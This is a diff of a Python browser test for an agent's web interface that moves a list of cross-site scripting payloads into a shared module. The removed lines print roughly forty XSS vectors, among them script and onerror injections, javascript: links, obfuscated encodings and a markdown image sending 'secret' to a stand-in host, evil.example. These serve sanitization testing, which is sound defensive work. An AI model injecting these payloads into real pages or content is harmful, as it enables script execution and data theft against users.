@@ -12,6 +12,7 @@ from playwright.sync_api import Dialog, Page
 
 from agent import Agent, Settings
 from knowledge import import_files
+from tests.hostile_texts import ATTACKS, EVIL, PAYLOADS
 from tests.serving import chromium, running
 from ui.app import create_app
 
@@ -19,58 +20,6 @@ pytestmark = pytest.mark.browser
 
 ABOUT = "汽车保险杠注塑件表面银纹"
 NEED = "我们做汽车保险杠注塑件，表面总有银纹，良率92%，想提高到98%以上"
-EVIL = "//evil.example"
-ATTACKS = (
-    "<script>window.hacked='{m}'</script>",
-    "<ScRiPt src={e}/{m}.js></sCrIpT>",
-    "<img src=x onerror=alert('{m}')>",
-    "<img src='{e}/{m}.png'>",
-    "<svg/onload=alert('{m}')>",
-    "<svg><script>alert('{m}')</script></svg>",
-    "<iframe src=javascript:alert('{m}')></iframe>",
-    "<iframe srcdoc='<script>parent.hacked=1</script>{m}'></iframe>",
-    "<object data={e}/{m}></object><embed src={e}/{m}>",
-    "<link rel=stylesheet href={e}/{m}.css><style>*{{background:url({e}/{m})}}</style>",
-    "<base href={e}/{m}/><meta http-equiv=refresh content='0;url={e}/{m}'>",
-    "<form action={e}/{m}><input name=q autofocus onfocus=alert('{m}')></form>",
-    "<a href=javascript:alert('{m}')>点这里</a>",
-    "<details open ontoggle=alert('{m}')>",
-    "<video><source onerror=alert('{m}')></video>",
-    "<math><mtext></p><style><img src onerror=alert('{m}')></style></math>",
-    "<template shadowrootmode=open><script>alert('{m}')</script></template>",
-    "'\"><img src=x onerror=alert('{m}')>",
-    "</textarea></title></script><script>alert('{m}')</script>",
-    "<!--><img src=x onerror=alert('{m}')>-->",
-    "javascript:alert('{m}')",
-    "data:text/html,<script>alert('{m}')</script>",
-    "![{m}]({e}/{m}.png?q=secret)",
-    "[{m}](javascript:alert(1))",
-    "[点此查看{m}]({e}/{m})",
-    "<{e}/{m}>",
-    "https:{e}/{m}",
-    "`<img src=x onerror=alert('{m}')>`",
-    "${{alert('{m}')}}{{{{constructor.constructor('alert(1)')()}}}}",
-    "&lt;img src=x onerror=alert('{m}')&gt;",
-    "&#60;script&#62;alert('{m}')&#60;/script&#62;",
-    "\\u003cimg src=x onerror=alert('{m}')\\u003e",
-    "%3Cscript%3Ealert('{m}')%3C/script%3E",
-    "\u202egpj.{m}<img src=x onerror=alert(1)>\u202c",
-    "<scr\u200bipt>alert('{m}')</scr\u200dipt>",
-    "＜script＞alert('{m}')＜/script＞",
-    "{m}" + "长" * 400,
-    "{m}" + "W" * 400,
-)
-WRAPS = (
-    "{}",
-    "**{}**",
-    "〔A-0001{}〕",
-    "**〔A-0001，{}〕**",
-    "《{}》：",
-)
-PAYLOADS = [
-    wrap.format(attack.format(m=f"p{number:03d}", e=EVIL))
-    for number, (attack, wrap) in enumerate((attack, wrap) for attack in ATTACKS for wrap in WRAPS)
-]
 HEADERS = ("编号", "成果名称", "简介", "解决的问题", "技术方案", "关键词", "应用场景", "单位", "团队", "价格")
 FREE = len(HEADERS) - 1
 FORBIDDEN = (
